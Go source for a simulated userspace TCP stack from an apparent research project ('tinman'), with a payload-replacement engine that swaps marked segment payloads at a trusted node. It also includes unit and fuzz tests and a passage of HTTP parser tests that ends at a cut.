	Rewrite func(origSrc, origDst string, seg *Segment) ([]byte, error)
	// OnError observes rewrite/forward failures (they otherwise only drop
	// the packet, as a middlebox would).
	OnError func(error)
	// Obs, when set, records every dropped segment as an instant
	// tcp_replace error event — middlebox-style silent drops are the kind
	// of failure a span tree otherwise never shows. Nil-safe.
	Obs *obs.Tracer
	// Replaced counts successfully reframed segments.
	Replaced uint64
	// next receives non-redirect packets (chained handler), letting the
	// replacer share a host with a TCP stack.
	next func(*netsim.Packet)
}

// NewReplacer installs a replacement engine on the host, chaining in front
// of any existing packet handler (typically the node's own TCP stack).
func NewReplacer(host *netsim.Host, rewrite func(origSrc, origDst string, seg *Segment) ([]byte, error)) *Replacer {
	r := &Replacer{host: host, Rewrite: rewrite}
	// Chain in front of whatever already handles this host's packets
	// (typically the trusted node's own TCP stack).
	r.next = host.Handler()
	host.Handle(func(pkt *netsim.Packet) {
		if isEncap(pkt.Payload) {
			r.handleRedirect(pkt)
			return
		}
		if r.next != nil {
			r.next(pkt)
		}
	})
	return r
}

func (r *Replacer) fail(err error) {
	r.Obs.Event(obs.PhaseTCPReplace, obs.Err(obs.ErrInternal), obs.Outcome(false))
	if r.OnError != nil {
		r.OnError(err)
	}
}

func (r *Replacer) handleRedirect(pkt *netsim.Packet) {
	origSrc, origDst, seg, err := decapsulate(pkt.Payload)
	if err != nil {
		r.fail(fmt.Errorf("tcpsim: replacer: %v", err))
		return
	}
	newPayload, err := r.Rewrite(origSrc, origDst, seg)
	if err != nil {
		r.fail(fmt.Errorf("tcpsim: replacer: rewrite: %v", err))
		return
	}
	if len(newPayload) != len(seg.Payload) {
		r.fail(fmt.Errorf("tcpsim: replacer: replacement length %d != original %d (would desynchronize TCP)",
			len(newPayload), len(seg.Payload)))
		return
	}
	// Reframe: same header, new payload, fresh checksum (step 4 of fig 8).
	out := &Segment{
		SrcPort: seg.SrcPort,
		DstPort: seg.DstPort,
		Seq:     seg.Seq,
		Ack:     seg.Ack,
		Flags:   seg.Flags,
		Window:  seg.Window,
		Payload: newPayload,
	}
	buf := out.Encode(origSrc, origDst)
	// Forward with the *device's* source address: the origin server must
	// see the packet as coming from the client. SendRaw performs the
	// spoofed send; an egress-filtered trusted node fails here.
	if err := r.host.SendRaw(&netsim.Packet{Src: origSrc, Dst: origDst, Payload: buf}); err != nil {
		r.fail(fmt.Errorf("tcpsim: replacer: forward: %v", err))
		return
	}
	r.Replaced++
}
