package tcpsim

import (
	"fmt"
)

// Conn is one endpoint of a TCP connection. The API is non-blocking: Write
// queues data for transmission, Read drains whatever has arrived, and the
// caller advances the netsim event loop to make progress (e.g. with
// net.RunUntil(func() bool { return conn.Readable() > 0 })).
type Conn struct {
	stack      *Stack
	key        connKey
	state      State
	remoteAddr string
	listener   *Listener

	// send side
	sndUna   uint32 // oldest unacknowledged
	sndNxt   uint32 // next sequence to send
	inFlight []*Segment
	rtoArmed bool
	// rtoBackoff doubles on stalled timeouts and resets on ACK progress.
	rtoBackoff int
	// rtoLastUna detects progress between timer firings.
	rtoLastUna uint32

	// receive side
	rcvNxt  uint32
	recvBuf []byte
	peerFin bool

	// OnReadable, when set, fires whenever new data is appended to the
	// receive buffer.
	OnReadable func()
}

// State returns the connection state.
func (c *Conn) State() State { return c.state }

// Established reports whether the handshake completed.
func (c *Conn) Established() bool { return c.state == StateEstablished || c.state == StateCloseWait }

// Closed reports whether the connection is fully closed or reset.
func (c *Conn) Closed() bool { return c.state == StateClosed }

// LocalPort returns the local port.
func (c *Conn) LocalPort() uint16 { return c.key.localPort }

// RemoteAddr returns the peer address and port.
func (c *Conn) RemoteAddr() (string, uint16) { return c.remoteAddr, c.key.remotePort }

// Readable returns the number of buffered received bytes.
func (c *Conn) Readable() int { return len(c.recvBuf) }

// PeerClosed reports whether the peer sent FIN (EOF after draining).
func (c *Conn) PeerClosed() bool { return c.peerFin }

// Read drains up to max buffered bytes (all of them if max <= 0).
func (c *Conn) Read(max int) []byte {
	n := len(c.recvBuf)
	if max > 0 && max < n {
		n = max
	}
	out := c.recvBuf[:n]
	c.recvBuf = append([]byte(nil), c.recvBuf[n:]...)
	return out
}

// Write queues data on the connection, segmenting at MSS.
func (c *Conn) Write(b []byte) error {
	if !c.Established() {
		return fmt.Errorf("tcpsim: write on %v connection", c.state)
	}
	for len(b) > 0 {
		n := len(b)
		if n > MSS {
			n = MSS
		}
		c.sendData(b[:n])
		b = b[n:]
	}
	return nil
}

// Close sends FIN. Data already queued is still retransmitted as needed.
func (c *Conn) Close() {
	switch c.state {
	case StateEstablished:
		c.state = StateFinWait
		c.sendFlags(FlagFIN|FlagACK, nil)
	case StateCloseWait:
		c.state = StateClosed
		c.sendFlags(FlagFIN|FlagACK, nil)
		c.teardown()
	case StateClosed:
	default:
		c.state = StateClosed
		c.teardown()
	}
}

// Abort sends RST and drops the connection.
func (c *Conn) Abort() {
	c.sendFlags(FlagRST|FlagACK, nil)
	c.state = StateClosed
	c.teardown()
}

func (c *Conn) teardown() {
	delete(c.stack.conns, c.key)
}

// sendFlags transmits a control segment, consuming one sequence number for
// SYN and FIN.
func (c *Conn) sendFlags(flags uint8, payload []byte) {
	seg := &Segment{
		SrcPort: c.key.localPort,
		DstPort: c.key.remotePort,
		Seq:     c.sndNxt,
		Ack:     c.rcvNxt,
		Flags:   flags,
		Window:  65535,
		Payload: payload,
	}
	consumed := uint32(len(payload))
	if flags&(FlagSYN|FlagFIN) != 0 {
		consumed++
	}
	c.sndNxt += consumed
	if consumed > 0 {
		c.track(seg)
	}
	c.stack.sendSegment(c.remoteAddr, seg)
}

func (c *Conn) sendData(b []byte) {
	c.sendFlags(FlagACK|FlagPSH, append([]byte(nil), b...))
}

// track adds a sequence-consuming segment to the retransmission queue.
func (c *Conn) track(seg *Segment) {
	c.inFlight = append(c.inFlight, seg)
	c.armRTO()
}

func (c *Conn) armRTO() {
	if c.rtoArmed {
		return
	}
	c.rtoArmed = true
	c.rtoLastUna = c.sndUna
	timeout := c.stack.RetransmitTimeout << uint(c.rtoBackoff)
	c.stack.net.Schedule(timeout, c.onRTO)
}

// onRTO fires the retransmission timer. If ACKs made progress since arming,
// the peer is alive and draining a long burst: just re-arm. Otherwise
// retransmit only the oldest unacked segment (not the whole window — a
// go-back-N blast on a long-fat link melts into a retransmission storm) and
// back off exponentially. The timer re-arms only while data remains in
// flight, so a drained simulation terminates.
func (c *Conn) onRTO() {
	c.rtoArmed = false
	if c.state == StateClosed || len(c.inFlight) == 0 {
		return
	}
	if c.sndUna != c.rtoLastUna {
		c.rtoBackoff = 0
		c.armRTO()
		return
	}
	seg := c.inFlight[0]
	seg.Ack = c.rcvNxt // refresh cumulative ack
	c.stack.sendSegment(c.remoteAddr, seg)
	if c.rtoBackoff < 4 {
		c.rtoBackoff++
	}
	c.armRTO()
}

// handleSegment is the per-connection receive path.
func (c *Conn) handleSegment(seg *Segment) {
	if seg.Flags&FlagRST != 0 {
		c.state = StateClosed
		c.teardown()
		return
	}

	switch c.state {
	case StateSynSent:
		if seg.Flags&FlagSYN != 0 && seg.Flags&FlagACK != 0 && seg.Ack == c.sndNxt {
			c.rcvNxt = seg.Seq + 1
			c.ackUpTo(seg.Ack)
			c.state = StateEstablished
			c.sendFlags(FlagACK, nil)
		}
		return

	case StateSynReceived:
		if seg.Flags&FlagACK != 0 && seg.Ack == c.sndNxt {
			c.ackUpTo(seg.Ack)
			c.state = StateEstablished
			if c.listener != nil {
				if c.listener.OnAccept != nil {
					c.listener.OnAccept(c)
				} else {
					c.listener.backlog = append(c.listener.backlog, c)
				}
			}
			// Fall through: the ACK completing the handshake may carry data.
		} else {
			return
		}
	}

	if seg.Flags&FlagACK != 0 {
		c.ackUpTo(seg.Ack)
	}

	advanced := false
	if len(seg.Payload) > 0 {
		switch {
		case seg.Seq == c.rcvNxt:
			c.recvBuf = append(c.recvBuf, seg.Payload...)
			c.rcvNxt += uint32(len(seg.Payload))
			advanced = true
			if c.OnReadable != nil {
				c.OnReadable()
			}
		case seqLess(seg.Seq, c.rcvNxt):
			// Duplicate (retransmission already consumed): re-ack below.
		default:
			// Out-of-order segment: dropped; the peer's RTO recovers. A
			// full reassembly queue is unnecessary for the in-order links
			// this simulator models.
		}
		// Acknowledge received data (or re-ack duplicates).
		c.sendFlags(FlagACK, nil)
	}

	if seg.Flags&FlagFIN != 0 && (seg.Seq == c.rcvNxt || advanced) {
		c.rcvNxt++
		c.peerFin = true
		switch c.state {
		case StateEstablished:
			c.state = StateCloseWait
		case StateFinWait:
			c.state = StateClosed
		}
		c.sendFlags(FlagACK, nil)
		if c.state == StateClosed {
			c.teardown()
		}
	}
}

// ackUpTo drops acknowledged segments from the retransmission queue.
func (c *Conn) ackUpTo(ack uint32) {
	if seqLess(c.sndUna, ack) {
		c.sndUna = ack
		c.rtoBackoff = 0
	}
	keep := c.inFlight[:0]
	for _, seg := range c.inFlight {
		end := seg.Seq + uint32(len(seg.Payload))
		if seg.Flags&(FlagSYN|FlagFIN) != 0 {
			end++
		}
		if seqLess(ack, end) {
			keep = append(keep, seg)
		}
	}
	c.inFlight = keep
}

// seqLess compares sequence numbers with wraparound (RFC 1982 style).
func seqLess(a, b uint32) bool { return int32(b-a) > 0 }
