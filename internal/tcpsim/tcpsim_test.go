package tcpsim

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"tinman/internal/netsim"
)

// world builds a standard three-host topology: device, trusted node, and an
// origin server, fully meshed.
type world struct {
	net    *netsim.Net
	device *Stack
	node   *Stack
	server *Stack
}

func newWorld(t testing.TB, prof netsim.Profile) *world {
	t.Helper()
	n := netsim.New(11)
	dev := n.AddHost("10.0.0.2")
	node := n.AddHost("10.8.0.1")
	srv := n.AddHost("93.184.216.34")
	n.Connect(dev, node, prof)
	n.Connect(dev, srv, prof)
	n.Connect(node, srv, netsim.Wired)
	return &world{
		net:    n,
		device: NewStack(n, dev),
		node:   NewStack(n, node),
		server: NewStack(n, srv),
	}
}

// connect dials from the device to the server and runs the handshake.
func (w *world) connect(t testing.TB, port uint16) (*Conn, *Conn) {
	t.Helper()
	l, err := w.server.Listen(port)
	if err != nil {
		t.Fatal(err)
	}
	var accepted *Conn
	l.OnAccept = func(c *Conn) { accepted = c }
	c, err := w.device.Dial("93.184.216.34", port)
	if err != nil {
		t.Fatal(err)
	}
	if !w.net.RunUntil(func() bool { return c.Established() && accepted != nil }) {
		t.Fatal("handshake did not complete")
	}
	return c, accepted
}

func TestHandshake(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 443)
	if c.State() != StateEstablished || s.State() != StateEstablished {
		t.Fatalf("states: %v / %v", c.State(), s.State())
	}
	if w.net.Now() < netsim.WiFi.Latency {
		t.Fatal("handshake cost no simulated time")
	}
}

func TestDataTransferBothDirections(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 80)

	if err := c.Write([]byte("GET / HTTP/1.1\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	if !w.net.RunUntil(func() bool { return s.Readable() >= 18 }) {
		t.Fatal("request did not arrive")
	}
	if got := string(s.Read(0)); got != "GET / HTTP/1.1\r\n\r\n" {
		t.Fatalf("server got %q", got)
	}
	if err := s.Write([]byte("HTTP/1.1 200 OK\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	if !w.net.RunUntil(func() bool { return c.Readable() > 0 }) {
		t.Fatal("response did not arrive")
	}
	if got := string(c.Read(0)); !strings.HasPrefix(got, "HTTP/1.1 200") {
		t.Fatalf("client got %q", got)
	}
}

func TestLargeTransferSegmentsAndReassembles(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 80)
	payload := bytes.Repeat([]byte("0123456789abcdef"), 1000) // 16 KB > MSS
	if err := c.Write(payload); err != nil {
		t.Fatal(err)
	}
	if !w.net.RunUntil(func() bool { return s.Readable() >= len(payload) }) {
		t.Fatalf("only %d/%d bytes arrived", s.Readable(), len(payload))
	}
	if got := s.Read(0); !bytes.Equal(got, payload) {
		t.Fatal("reassembled payload differs")
	}
}

func TestRetransmissionOnLoss(t *testing.T) {
	n := netsim.New(3)
	dev := n.AddHost("a")
	srv := n.AddHost("b")
	// 20% loss: retransmission must recover everything.
	n.Connect(dev, srv, netsim.Profile{Name: "lossy", Latency: 2 * time.Millisecond, Loss: 0.2})
	ds := NewStack(n, dev)
	ss := NewStack(n, srv)
	l, _ := ss.Listen(80)
	var acc *Conn
	l.OnAccept = func(c *Conn) { acc = c }
	c, _ := ds.Dial("b", 80)
	if !n.RunUntil(func() bool { return c.Established() && acc != nil }) {
		t.Fatal("handshake never completed despite retransmission")
	}
	payload := bytes.Repeat([]byte("x"), 10*MSS)
	c.Write(payload)
	if !n.RunUntil(func() bool { return acc.Readable() >= len(payload) }) {
		t.Fatalf("lossy transfer incomplete: %d/%d", acc.Readable(), len(payload))
	}
}

func TestCloseHandshake(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 80)
	c.Write([]byte("bye"))
	c.Close()
	if !w.net.RunUntil(func() bool { return s.PeerClosed() && s.Readable() == 3 }) {
		t.Fatal("FIN or data lost")
	}
	s.Close()
	if !w.net.RunUntil(func() bool { return c.Closed() && s.Closed() }) {
		t.Fatalf("connections not closed: %v / %v", c.State(), s.State())
	}
}

func TestRSTOnNoListener(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, err := w.device.Dial("93.184.216.34", 9999)
	if err != nil {
		t.Fatal(err)
	}
	if !w.net.RunUntil(func() bool { return c.Closed() }) {
		t.Fatal("SYN to closed port did not get RST")
	}
}

func TestWriteBeforeEstablishedFails(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	w.server.Listen(80)
	c, _ := w.device.Dial("93.184.216.34", 80)
	if err := c.Write([]byte("early")); err == nil {
		t.Fatal("write on syn-sent connection accepted")
	}
}

func TestDuplicateListenFails(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	if _, err := w.server.Listen(80); err != nil {
		t.Fatal(err)
	}
	if _, err := w.server.Listen(80); err == nil {
		t.Fatal("duplicate listen accepted")
	}
}

func TestSegmentCodecRoundTrip(t *testing.T) {
	seg := &Segment{
		SrcPort: 40001, DstPort: 443, Seq: 12345, Ack: 6789,
		Flags: FlagACK | FlagPSH, Window: 65535, Payload: []byte("payload"),
	}
	buf := seg.Encode("10.0.0.2", "93.184.216.34")
	got, err := DecodeSegment("10.0.0.2", "93.184.216.34", buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Seq != seg.Seq || got.Ack != seg.Ack || got.Flags != seg.Flags || !bytes.Equal(got.Payload, seg.Payload) {
		t.Fatalf("round trip: %+v", got)
	}
	if got.String() == "" || got.flagString() == "" {
		t.Fatal("empty diagnostics")
	}
}

func TestChecksumCatchesCorruptionAndSpoofedAddresses(t *testing.T) {
	seg := &Segment{SrcPort: 1, DstPort: 2, Payload: []byte("data")}
	buf := seg.Encode("a", "b")
	// Bit flip in payload.
	bad := append([]byte(nil), buf...)
	bad[len(bad)-1] ^= 0x40
	if _, err := DecodeSegment("a", "b", bad); err == nil {
		t.Fatal("corrupted segment accepted")
	}
	// The checksum covers the pseudo-header: decoding under different
	// addresses fails, so naive payload replacement without re-checksumming
	// would be detected.
	if _, err := DecodeSegment("a", "c", buf); err == nil {
		t.Fatal("segment accepted under wrong pseudo-header")
	}
	if _, err := DecodeSegment("a", "b", buf[:10]); err == nil {
		t.Fatal("truncated segment accepted")
	}
}

// --- filter and payload replacement ---

func TestFilterRuleValidation(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	if err := w.device.AddEgressRule(&FilterRule{Name: "x"}); err == nil {
		t.Fatal("rule without matcher accepted")
	}
	if err := w.device.AddEgressRule(&FilterRule{
		Name: "x", Match: func(*Segment, string, string) bool { return true }, Verdict: VerdictRedirect,
	}); err == nil {
		t.Fatal("redirect rule without target accepted")
	}
}

func TestFilterDrop(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 80)
	w.device.AddEgressRule(&FilterRule{
		Name:    "drop-evil",
		Match:   func(seg *Segment, src, dst string) bool { return bytes.HasPrefix(seg.Payload, []byte("EVIL")) },
		Verdict: VerdictDrop,
	})
	c.Write([]byte("EVIL payload"))
	w.net.RunFor(200 * time.Millisecond)
	if s.Readable() != 0 {
		t.Fatal("dropped payload arrived")
	}
	w.device.RemoveEgressRule("drop-evil")
	c.Write([]byte("fine"))
	if !w.net.RunUntil(func() bool { return s.Readable() > 0 }) {
		t.Fatal("payload blocked after rule removal")
	}
}

func TestPayloadReplacementEndToEnd(t *testing.T) {
	// The fig 8 flow: device marks a segment, the filter redirects it to
	// the node, the node swaps the placeholder payload for the secret one
	// and forwards it to the server with the device's source address.
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 443)

	const mark = 0x7F
	placeholder := []byte{mark, 'P', 'L', 'A', 'C', 'E'}
	secret := []byte{mark, 'S', 'E', 'C', 'R', 'T'}

	if err := w.device.AddEgressRule(MarkedRecordRule(mark, "10.8.0.1")); err != nil {
		t.Fatal(err)
	}
	rep := NewReplacer(w.node.Host(), func(origSrc, origDst string, seg *Segment) ([]byte, error) {
		if origSrc != "10.0.0.2" || origDst != "93.184.216.34" {
			t.Errorf("replacer saw %s->%s", origSrc, origDst)
		}
		if !bytes.Equal(seg.Payload, placeholder) {
			t.Errorf("replacer payload %q", seg.Payload)
		}
		return secret, nil
	})

	// Unmarked traffic flows directly.
	c.Write([]byte("normal"))
	if !w.net.RunUntil(func() bool { return s.Readable() == 6 }) {
		t.Fatal("unmarked segment blocked")
	}
	s.Read(0)

	// Marked traffic takes the detour and arrives replaced.
	c.Write(placeholder)
	if !w.net.RunUntil(func() bool { return s.Readable() == len(secret) }) {
		t.Fatal("marked segment never arrived at server")
	}
	if got := s.Read(0); !bytes.Equal(got, secret) {
		t.Fatalf("server got %q, want replaced payload", got)
	}
	if rep.Replaced != 1 {
		t.Fatalf("replaced = %d", rep.Replaced)
	}

	// The TCP session continues seamlessly: the server's ACK matches the
	// device's idea of its own sequence numbers.
	s.Write([]byte("ok"))
	if !w.net.RunUntil(func() bool { return c.Readable() == 2 }) {
		t.Fatal("session desynchronized after replacement")
	}
	// And further device traffic keeps flowing.
	c.Write([]byte("after"))
	if !w.net.RunUntil(func() bool { return s.Readable() == 5 }) {
		t.Fatal("post-replacement traffic blocked")
	}
}

func TestReplacementLengthMismatchRejected(t *testing.T) {
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 443)
	w.device.AddEgressRule(MarkedRecordRule(0x7F, "10.8.0.1"))
	var gotErr error
	rep := NewReplacer(w.node.Host(), func(origSrc, origDst string, seg *Segment) ([]byte, error) {
		return []byte{0x7F, 1}, nil // wrong length
	})
	rep.OnError = func(err error) { gotErr = err }
	c.Write([]byte{0x7F, 'a', 'b', 'c'})
	w.net.RunFor(100 * time.Millisecond)
	if gotErr == nil || !strings.Contains(gotErr.Error(), "length") {
		t.Fatalf("err = %v, want length mismatch", gotErr)
	}
	if s.Readable() != 0 {
		t.Fatal("mismatched replacement forwarded anyway")
	}
}

func TestEgressFilteredNodeBreaksReplacement(t *testing.T) {
	// §5.4: the trusted node must sit on a host without egress filtering,
	// else the spoofed-source forward is dropped as an IP spoofing attempt.
	w := newWorld(t, netsim.WiFi)
	c, s := w.connect(t, 443)
	w.device.AddEgressRule(MarkedRecordRule(0x7F, "10.8.0.1"))
	w.node.Host().SetEgressFilter(true)
	var gotErr error
	rep := NewReplacer(w.node.Host(), func(origSrc, origDst string, seg *Segment) ([]byte, error) {
		return seg.Payload, nil
	})
	rep.OnError = func(err error) { gotErr = err }
	c.Write([]byte{0x7F, 'x'})
	w.net.RunFor(100 * time.Millisecond)
	if gotErr == nil || !strings.Contains(gotErr.Error(), "egress filter") {
		t.Fatalf("err = %v, want egress filter failure", gotErr)
	}
	_ = s
}

func TestReplacerChainsToNodeStack(t *testing.T) {
	// The replacer must not break the node's own TCP service.
	w := newWorld(t, netsim.WiFi)
	NewReplacer(w.node.Host(), func(origSrc, origDst string, seg *Segment) ([]byte, error) {
		return seg.Payload, nil
	})
	l, _ := w.node.Listen(7000)
	var acc *Conn
	l.OnAccept = func(c *Conn) { acc = c }
	c, _ := w.device.Dial("10.8.0.1", 7000)
	if !w.net.RunUntil(func() bool { return c.Established() && acc != nil }) {
		t.Fatal("node stack unreachable behind replacer")
	}
	c.Write([]byte("state-sync"))
	if !w.net.RunUntil(func() bool { return acc.Readable() == 10 }) {
		t.Fatal("node stack data path broken behind replacer")
	}
}

func TestEncapRoundTripProperty(t *testing.T) {
	prop := func(src, dst string, payload []byte, seq, ack uint32) bool {
		if len(src) == 0 || len(dst) == 0 {
			return true
		}
		if len(src) > 255 {
			src = src[:255]
		}
		if len(dst) > 255 {
			dst = dst[:255]
		}
		seg := &Segment{SrcPort: 1, DstPort: 2, Seq: seq, Ack: ack, Flags: FlagACK, Payload: payload}
		enc := encapsulate(src, dst, seg)
		if !isEncap(enc) {
			return false
		}
		gs, gd, got, err := decapsulate(enc)
		return err == nil && gs == src && gd == dst &&
			got.Seq == seq && got.Ack == ack && bytes.Equal(got.Payload, payload)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func TestDecapsulateErrors(t *testing.T) {
	if _, _, _, err := decapsulate([]byte("nope")); err == nil {
		t.Fatal("non-encap accepted")
	}
	if _, _, _, err := decapsulate([]byte("RDIR")); err == nil {
		t.Fatal("truncated encap accepted")
	}
	if _, _, _, err := decapsulate([]byte{'R', 'D', 'I', 'R', 0, 1, 'a', 0, 1}); err == nil {
		t.Fatal("truncated address accepted")
	}
}

func TestSeqLessWraparound(t *testing.T) {
	if !seqLess(0xFFFFFFF0, 5) {
		t.Fatal("wraparound comparison broken")
	}
	if seqLess(5, 0xFFFFFFF0) {
		t.Fatal("wraparound comparison inverted")
	}
	if seqLess(7, 7) {
		t.Fatal("equal is not less")
	}
}

func TestStateStrings(t *testing.T) {
	for s := StateClosed; s <= StateCloseWait; s++ {
		if s.String() == "" {
			t.Fatal("empty state name")
		}
	}
	if State(99).String() == "" {
		t.Fatal("unknown state unnamed")
	}
}
