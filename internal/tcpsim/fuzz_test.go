package tcpsim

import (
	"bytes"
	"testing"
)

// FuzzDecodeSegment hardens the TCP parser: every host parses segments from
// the (simulated) wire, and the replacement engine parses encapsulated
// redirects from devices.
func FuzzDecodeSegment(f *testing.F) {
	seg := &Segment{SrcPort: 1, DstPort: 2, Seq: 3, Ack: 4, Flags: FlagACK | FlagPSH, Payload: []byte("data")}
	valid := seg.Encode("a", "b")
	f.Add([]byte("a"), []byte("b"), valid)
	f.Add([]byte("a"), []byte("b"), valid[:10])
	f.Add([]byte(""), []byte(""), []byte{})
	f.Fuzz(func(t *testing.T, src, dst, data []byte) {
		got, err := DecodeSegment(string(src), string(dst), data)
		if err != nil {
			return
		}
		// Round trip must be stable.
		re := got.Encode(string(src), string(dst))
		if !bytes.Equal(re, data) {
			t.Fatalf("re-encode differs: %x vs %x", re, data)
		}
	})
}

// FuzzDecapsulate hardens the redirect decapsulator (fed by the device's
// packet filter, but a compromised device could send anything).
func FuzzDecapsulate(f *testing.F) {
	seg := &Segment{SrcPort: 1, DstPort: 443, Payload: []byte{0x7F, 1, 2}}
	f.Add(encapsulate("10.0.0.2", "1.2.3.4", seg))
	f.Add([]byte("RDIR"))
	f.Add([]byte("RDIR\x00\x05abc"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		src, dst, got, err := decapsulate(data)
		if err != nil {
			return
		}
		re := encapsulate(src, dst, got)
		if !bytes.Equal(re, data) {
			t.Fatalf("re-encapsulation differs")
		}
	})
}
