// Package tcpsim is a compact userspace TCP over the netsim substrate: SYN
// handshake, cumulative ACKs, segmentation, retransmission and checksums —
// enough protocol to host TinMan's TCP-layer mechanism, payload replacement
// (§3.3): a marked segment is captured by an egress filter on the device,
// redirected to the trusted node, its payload swapped for the cor-bearing
// ciphertext, and forwarded to the origin server with the original TCP
// header intact.
package tcpsim

import (
	"encoding/binary"
	"fmt"
)

// Flag bits.
const (
	FlagFIN uint8 = 1 << iota
	FlagSYN
	FlagRST
	FlagPSH
	FlagACK
)

// MSS is the maximum segment payload.
const MSS = 1400

// Segment is a TCP segment. Addresses live in the enclosing netsim packet;
// the checksum covers a pseudo-header with both.
type Segment struct {
	SrcPort  uint16
	DstPort  uint16
	Seq      uint32
	Ack      uint32
	Flags    uint8
	Window   uint16
	Checksum uint16
	Payload  []byte
}

const segHeaderLen = 17

// flagNames for diagnostics.
func (s *Segment) flagString() string {
	out := ""
	for _, f := range []struct {
		bit  uint8
		name string
	}{{FlagSYN, "SYN"}, {FlagACK, "ACK"}, {FlagFIN, "FIN"}, {FlagRST, "RST"}, {FlagPSH, "PSH"}} {
		if s.Flags&f.bit != 0 {
			if out != "" {
				out += "|"
			}
			out += f.name
		}
	}
	if out == "" {
		out = "-"
	}
	return out
}

// String renders the segment for logs.
func (s *Segment) String() string {
	return fmt.Sprintf("tcp %d->%d %s seq=%d ack=%d len=%d", s.SrcPort, s.DstPort, s.flagString(), s.Seq, s.Ack, len(s.Payload))
}

// Encode serializes the segment, computing the checksum over the
// pseudo-header (src, dst) and the segment bytes.
func (s *Segment) Encode(src, dst string) []byte {
	buf := make([]byte, segHeaderLen+len(s.Payload))
	binary.BigEndian.PutUint16(buf[0:], s.SrcPort)
	binary.BigEndian.PutUint16(buf[2:], s.DstPort)
	binary.BigEndian.PutUint32(buf[4:], s.Seq)
	binary.BigEndian.PutUint32(buf[8:], s.Ack)
	buf[12] = s.Flags
	binary.BigEndian.PutUint16(buf[13:], s.Window)
	// checksum at [15:17], zero during computation
	copy(buf[segHeaderLen:], s.Payload)
	ck := checksum(src, dst, buf)
	binary.BigEndian.PutUint16(buf[15:], ck)
	s.Checksum = ck
	return buf
}

// DecodeSegment parses and verifies a segment received between src and dst.
func DecodeSegment(src, dst string, buf []byte) (*Segment, error) {
	if len(buf) < segHeaderLen {
		return nil, fmt.Errorf("tcpsim: segment too short (%d bytes)", len(buf))
	}
	s := &Segment{
		SrcPort:  binary.BigEndian.Uint16(buf[0:]),
		DstPort:  binary.BigEndian.Uint16(buf[2:]),
		Seq:      binary.BigEndian.Uint32(buf[4:]),
		Ack:      binary.BigEndian.Uint32(buf[8:]),
		Flags:    buf[12],
		Window:   binary.BigEndian.Uint16(buf[13:]),
		Checksum: binary.BigEndian.Uint16(buf[15:]),
		Payload:  append([]byte(nil), buf[segHeaderLen:]...),
	}
	check := make([]byte, len(buf))
	copy(check, buf)
	check[15], check[16] = 0, 0
	if got := checksum(src, dst, check); got != s.Checksum {
		return nil, fmt.Errorf("tcpsim: checksum mismatch: header %#04x, computed %#04x", s.Checksum, got)
	}
	return s, nil
}

// checksum is a 16-bit ones'-complement sum over the pseudo-header and
// segment, in the spirit of RFC 1071.
func checksum(src, dst string, seg []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add([]byte(src))
	add([]byte(dst))
	add(seg)
	for sum>>16 != 0 {
		sum = (sum & 0xFFFF) + sum>>16
	}
	return ^uint16(sum)
}
