package httpsim

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestParseRequestCanonical(t *testing.T) {
	raw := "POST /login HTTP/1.1\nhost: bank.example\ncontent-type: form\n\nuser=alice&hash=abc123"
	req, err := ParseRequest(raw)
	if err != nil {
		t.Fatal(err)
	}
	if req.Method != "POST" || req.Path != "/login" || req.Proto != "HTTP/1.1" {
		t.Fatalf("request line: %+v", req)
	}
	if req.Header("Host") != "bank.example" || req.Header("CONTENT-TYPE") != "form" {
		t.Fatalf("headers: %+v", req.Headers)
	}
	if req.FormValue("user") != "alice" || req.FormValue("hash") != "abc123" {
		t.Fatalf("form: %+v", req.Form)
	}
}

func TestParseRequestAppShape(t *testing.T) {
	// The VM app programs emit "POST /login HTTP/1.1\nhost=x\nuser=...&hash=..."
	// (form as the trailing line, host as k=v). The parser must still find
	// the credentials.
	raw := "POST /login HTTP/1.1\nhost=paypal.com\nuser=alice&hash=deadbeef"
	req, err := ParseRequest(raw)
	if err != nil {
		t.Fatal(err)
	}
	if req.Method != "POST" {
		t.Fatalf("method = %q", req.Method)
	}
	if req.FormValue("user") != "alice" || req.FormValue("hash") != "deadbeef" {
		t.Fatalf("form = %+v", req.Form)
	}
}

func TestParseRequestErrors(t *testing.T) {
	for _, raw := range []string{"", "JUSTONEWORD", "\n\n"} {
		if _, err := ParseRequest(raw); err == nil {
			t.Fatalf("%q accepted", raw)
		}
	}
}

func TestRequestFormatRoundTrip(t *testing.T) {
	req := &Request{
		Method: "GET", Path: "/feed", Proto: "HTTP/1.1",
		Headers: map[string]string{"host": "x.example", "token": "T1"},
		Body:    "a=1&b=2",
	}
	got, err := ParseRequest(req.Format())
	if err != nil {
		t.Fatal(err)
	}
	if got.Method != "GET" || got.Path != "/feed" || got.Header("host") != "x.example" {
		t.Fatalf("round trip: %+v", got)
	}
	if got.FormValue("b") != "2" {
		t.Fatalf("body lost: %+v", got)
	}
}

func TestResponses(t *testing.T) {
	resp := NewResponse(200, "token=XYZ").Set("Server", "tinman-sim")
	raw := resp.Format()
	if !strings.HasPrefix(raw, "HTTP/1.1 200 OK\n") {
		t.Fatalf("format = %q", raw)
	}
	got, err := ParseResponse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !got.OK() || got.Status != 200 || got.Headers["server"] != "tinman-sim" {
